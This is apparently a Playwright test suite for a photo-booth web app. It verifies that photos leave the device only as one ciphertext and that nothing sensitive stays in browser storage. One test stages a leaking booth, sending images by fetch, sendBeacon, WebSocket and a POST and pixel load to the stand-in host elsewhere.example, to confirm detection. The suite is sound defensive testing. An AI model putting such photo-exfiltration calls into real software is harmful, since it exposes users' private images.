import { readFile } from 'node:fs/promises'

import type { BrowserContext, Page } from '@playwright/test'

import { expect, test } from '#harness/browser/booth.ts'
import { independentStep } from '#harness/browser/independentStep.ts'
import { guestStrips, openKiosk, takeDevelopedStrip, waitForAttract } from '#harness/browser/kiosk.ts'
import { findImages } from '#harness/images/findImages.ts'
import { handbook, openHandbook, shownMessages, fillMessageForm } from '#harness/browser/openHandbook.ts'
import { twoColours } from '#harness/camera/ownImages.ts'
import { readStorage } from '#harness/browser/readings/readStorage.ts'
import {
  countDown,
  openWithClock,
  startCamera,
  stripDialog,
  takeStrip,
  openSettings,
  visitStart,
  sendDialog,
  press,
  button,
  downloadBy,
} from '#harness/browser/visit.ts'
import { pressMore } from '#harness/browser/strip/savedStrip.ts'
import { stubExports, exportCalls } from '#harness/browser/strip/stubExports.ts'
import { spyOnNetwork } from '#harness/browser/readings/networkSpy.ts'

// With the service worker: its cache must not store anything of the visit.
test.use({
  isFlat: true,
  serviceWorkers: 'allow',
  permissions: ['camera', 'clipboard-read', 'clipboard-write'],
})

const port = Number(process.env['TEST_PORT'] ?? 5199)

/** Uses filters, and every switch. */
async function changeEverything(page: Page): Promise<void> {
  for (const film of ['Vintage', 'TMax3200']) await press(page, film)
  const settings = await openSettings(page)
  for (const name of [
    'Light meter',
    'Soft light',
    'Date stamp',
    'Sounds',
    'Keyboard shortcuts',
    'Mirrored photos',
  ]) {
    await settings.getByRole('switch', { name }).click()
  }
  await settings.getByLabel('Screen light').selectOption('Always')
  await page.keyboard.press('Escape')
}

/** Reshoots a photo with the image of the visitor's own, and exports the strip by every method. */
async function exportEverywhere(page: Page): Promise<Buffer> {
  await press(page, 'Retake photo 2')
  await countDown(page, 4)
  await page.clock.runFor(1500)
  await page.getByLabel('Your Message').fill('ours alone')
  // The file is encoded before the click.
  await page.clock.runFor(300)
  const download = await downloadBy(page, button(page, 'Save Photo Strip'))
  const file = await readFile(await download.path())
  await pressMore(page, 'Share')
  await expect
    .poll(async () => (await exportCalls(page)).map(({ method }) => method))
    .toEqual(['save', 'share'])
  await pressMore(page, 'Copy')
  await expect(page.getByText('Copied.')).toBeVisible()
  await press(page, 'Print')
  await expect.poll(async () => (await exportCalls(page)).at(-1)?.method).toBe('print')
  return file
}

/** Sends the open strip to a phone. @returns the link of the code */
async function sendToPhone(page: Page): Promise<string> {
  await press(page, 'Send to My Phone')
  const dialog = sendDialog(page)
  const code = dialog.getByRole('img', { name: /^QR code of http/ })
  await expect(code).toBeVisible()
  const link = (await code.getAttribute('aria-label'))?.replace('QR code of ', '')
  await dialog.getByRole('button', { name: 'Stop Sharing' }).click()
  await expect(dialog.getByText(/^Sharing stopped/)).toBeVisible()
  await dialog.getByRole('button', { name: 'Close' }).click()
  return link ?? ''
}

/** Entropy of bytes in bits per byte: near 8 for a ciphertext; a JPEG's is a little lower, and that of text far. */
function entropy(bytes: Buffer): number {
  const counts = Array.from({ length: 256 }, () => 0)
  for (const byte of bytes) counts[byte] = (counts[byte] ?? 0) + 1
  const parts = counts.filter((count) => count > 0).map((count) => count / bytes.length)
  return parts.reduce((sum, part) => sum - part * Math.log2(part), 0)
}

/** Expects a ciphertext: no part of the file is in it, and neither are its key, its name and its type. */
function expectCiphertext(upload: Buffer, file: Buffer, link: string): void {
  expect(upload.length - file.length, 'bytes of nonce, tag and the list of files').toBeLessThan(200)
  expect(entropy(upload), 'bits per byte').toBeGreaterThan(7.999)
  const windows = Array.from({ length: Math.floor(file.length / 64) }, (_, at) =>
    file.subarray(at * 64, at * 64 + 8),
  )
  // The quantisation tables of a JPEG repeat one byte.
  const telling = windows.filter((bytes) => new Set(bytes).size > 4)
  expect(telling.length, 'parts of the file that are searched').toBeGreaterThan(1000)
  expect(telling.filter((bytes) => upload.includes(bytes))).toEqual([])
  const key = Buffer.from(link.slice(-43), 'base64url')
  expect(key).toHaveLength(32)
  for (const secret of [key, link.slice(-43), 'retro-photostrip', 'image/jpeg', 'JFIF']) {
    expect(upload.includes(secret)).toBe(false)
  }
}

/** Gives the booth an image of the visitor's own in place of the camera, and opens the strip again. */
async function useOwnImage(page: Page): Promise<void> {
  await stripDialog(page).getByRole('button', { name: 'Close' }).click()
  await press(page, 'Settings')
  const choosing = page.waitForEvent('filechooser')
  await press(page, 'Your Pictures')
  await (await choosing).setFiles([twoColours('mine.jpg', [220, 20, 20], [20, 20, 220])])
  await expect(page.getByRole('button', { name: 'Stop Camera' })).toBeVisible()
  await press(page, 'Your Photo Strip')
}

declare global {
  /** Connections by WebRTC that the page has made: a data channel passes a Content-Security-Policy. */
  var peerConnections: number
}

function countPeerConnections(context: BrowserContext): Promise<unknown> {
  return context.addInitScript(() => {
    globalThis.peerConnections = 0
    globalThis.RTCPeerConnection = class extends RTCPeerConnection {
      constructor(...args: ConstructorParameters<typeof RTCPeerConnection>) {
        super(...args)
        globalThis.peerConnections += 1
      }
    }
  })
}

async function writeToTheBook(page: Page): Promise<void> {
  await page.clock.resume()
  await openHandbook(page)
  await fillMessageForm(page, 'Mia', 'What a night')
  await press(page, 'Send')
  await expect(shownMessages(page).first()).toHaveText('What a night')
  await handbook(page).getByRole('button', { name: 'Close' }).click()
}

async function visitKiosk(page: Page, url: string): Promise<void> {
  await openKiosk(page, new Date(visitStart.getTime() + 3_600_000), `${url}/?kiosk`)
  await startCamera(page)
  await takeDevelopedStrip(page)
  await press(page, 'Yes, Show It')
  await stripDialog(page).getByRole('button', { name: 'Close' }).click()
  await waitForAttract(page)
  await expect(guestStrips(page)).toHaveCount(2)
}

test('S5: no part of a photo leaves the device or stays on it, whatever is used', async ({
  page,
  context,
}) => {
  test.slow()
  const spy = await spyOnNetwork(context, port)
  await stubExports(page, { share: 'shares' })
  await countPeerConnections(context)
  await test.step('a session that uses every feature', async () => {
    await openWithClock(page, `${spy.url}/`)
    await startCamera(page)
    await changeEverything(page)
    await takeStrip(page)
    await useOwnImage(page)
  })
  const file = await exportEverywhere(page)
  expect(spy.uploads(), 'uploads before the press').toEqual([])
  const link = await sendToPhone(page)
  await stripDialog(page).getByRole('button', { name: 'Close' }).click()
  await writeToTheBook(page)
  await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined))
  const stored = await readStorage(page)
  expect(await page.evaluate(() => globalThis.peerConnections), 'connections past the policy').toBe(0)
  await test.step('a visit of the kiosk', () => visitKiosk(page, spy.url))
  await independentStep('what has left is one ciphertext', async () => {
    expect(spy.leaks()).toEqual([])
    const [upload = Buffer.alloc(0), ...others] = spy.uploads()
    expect(others).toEqual([])
    expectCiphertext(upload, file, link)
    const key = link.slice(-43)
    expect(spy.sent.filter(({ head, body }) => head.includes(key) || body.includes(key))).toEqual([])
  })
  await independentStep('and the message that was written', async () => {
    const written = spy.sent.filter(
      ({ head, method, body }) =>
        method !== 'frame' && !head.includes(' /handover/v1/') && (method !== 'GET' || body.length > 0),
    )
    expect(written.map(({ body }) => String(body))).toEqual(['{"name":"Mia","message":"What a night"}'])
  })
  await independentStep('the guest book’s channel carries no more than its own', async () => {
    const frames = spy.sent
      .filter(({ method }) => method === 'frame')
      .map(({ body }) => String(JSON.parse(String(body))[3]))
    expect(frames).toContain('phx_join')
    expect(frames.filter((event) => !/^(phx_join|phx_leave|heartbeat|access_token)$/.test(event))).toEqual([])
  })
  await independentStep('nothing stays but settings and the draft', async () => {
    for (const { values, others } of [stored, await readStorage(page)]) {
      expect(others).toEqual([])
      const keys = Object.keys(values).filter(
        (key) => !/^(local retro-booth\.[\w-]+|session guestbook-draft)$/.test(key),
      )
      expect(keys).toEqual([])
      const long = Object.values(values).filter((value) => value.length > 100 || findImages(value).length > 0)
      expect(long).toEqual([])
    }
    expect(Object.keys(stored.values).length, 'settings kept').toBeGreaterThanOrEqual(5)
  })
  await spy.close()
})

test.describe('a booth that leaks photos', () => {
  test.use({
    expectedErrors:
      /securitypolicyviolation|Failed to load resource|Content Security Policy|Fetch API|WebSocket/,
  })

  test('S5: is detected, whichever way it takes', async ({ page, context }) => {
    const spy = await spyOnNetwork(context, port)
    const reports: string[] = []
    page.on('console', (message) => reports.push(message.text()))
    await page.goto(`${spy.url}/`)
    await page.evaluate(async () => {
      const canvas = document.createElement('canvas')
      const jpeg = await new Promise<Blob | null>((resolve) => canvas.toBlob(resolve, 'image/jpeg'))
      const png = canvas.toDataURL()
      const nothing = () => undefined
      await fetch('/rest/v1/photos?as=file', { method: 'POST', body: jpeg }).catch(nothing)
      await fetch('/rest/v1/photos?as=text', { method: 'POST', body: png }).catch(nothing)
      await fetch(`/rest/v1/photos?as=address&png=${encodeURIComponent(png)}`).catch(nothing)
      await fetch('/rest/v1/photos?as=pixels', { method: 'POST', body: new Uint8Array(5000) }).catch(nothing)
      navigator.sendBeacon('/rest/v1/photos?as=beacon', jpeg)
      const socket = new WebSocket(`/realtime/v1/websocket?apikey=anon&vsn=2.0.0`)
      await new Promise((resolve) => socket.addEventListener('open', resolve))
      socket.send(JSON.stringify([null, '1', 'realtime:guest_messages', 'broadcast', { png }]))
      await fetch('https://elsewhere.example/', { method: 'POST', body: jpeg }).catch(nothing)
      new Image().src = 'https://elsewhere.example/pixel.gif'
    })
    for (const way of ['as=file', 'as=text', 'as=address', 'as=pixels', 'as=beacon', 'frame to']) {
      await expect.poll(() => spy.leaks().filter((leak) => leak.includes(way)), way).not.toEqual([])
    }
    await expect
      .poll(() => reports.filter((text) => text.startsWith('securitypolicyviolation')))
      .toEqual([
        'securitypolicyviolation: connect-src https://elsewhere.example/',
        'securitypolicyviolation: img-src https://elsewhere.example/pixel.gif',
      ])
    await spy.close()
  })
})
